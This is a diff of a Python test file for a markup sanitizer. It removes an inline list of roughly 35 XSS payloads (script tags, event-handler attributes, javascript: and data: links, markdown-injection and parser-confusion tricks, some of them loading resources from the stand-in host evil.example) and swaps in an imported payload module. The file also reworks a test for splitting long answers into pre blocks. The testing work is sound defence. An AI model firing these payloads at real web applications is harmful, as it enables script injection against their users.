@@ -5,50 +5,14 @@ from __future__ import annotations
 import re
 from html.parser import HTMLParser
 
+import hostile
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
 from workbench.feedback.markup import LONGEST, to_safe_html
 
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<form action=https://evil.example><input name=q autofocus onfocus=alert(1)></form>",
-    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
-    "<video poster=https://evil.example/p><source onerror=alert(1)></video>",
-    "<details open ontoggle=alert(1)>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt&colon;alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](https://evil.example 'a\" onmouseover=\"alert(1)')",
-    "![x](https://evil.example/pixel.png)",
-    '![a"onerror="alert(1)](https://evil.example/"onload="alert(1))',
-    "![x][r]\n\n[r]: https://evil.example/pixel.png",
-    '<https://evil.example/"onclick=alert(1)>',
-    "```html\n<script>alert(1)</script>\n```",
-    '```"onclick=alert(1)"><script>alert(1)</script>\nx\n```',
-    "```python\n'''</code></pre><script>alert(1)</script>'''\n```",
-    "`</code><script>alert(1)</script>`",
-    "| a | <script>alert(1)</script> |\n|-|-|\n| <img src=x onerror=alert(1)> | b |",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\x00<script>alert(1)</script>",
-    "<script>" * 20_000,
-]
+PAYLOADS = [*hostile.PAYLOADS.values(), "<script>" * 20_000]
 
 
 class _Elements(HTMLParser):
@@ -131,7 +95,8 @@ def test_html_in_an_answer_is_shown_as_text() -> None:
     assert "&lt;b&gt;bold&lt;/b&gt;" in to_safe_html("<b>bold</b>")
 
 
-def test_a_very_long_answer_is_plain_text_and_whole() -> None:
-    html = to_safe_html("**x** " * LONGEST)
-    assert html.startswith("<pre>**x** ")
-    assert html.count("**x**") == LONGEST
+@pytest.mark.parametrize("text", ["**x** " * LONGEST, "x" * (LONGEST + 1), "\n\nx\n" * LONGEST])
+def test_a_very_long_answer_is_plain_text_in_pieces_and_whole(text: str) -> None:
+    pieces = re.findall(r"<pre>\n(.*?)</pre>", to_safe_html(text), re.DOTALL)
+    assert "".join(pieces) == text
+    assert max(map(len, pieces)) <= 2001
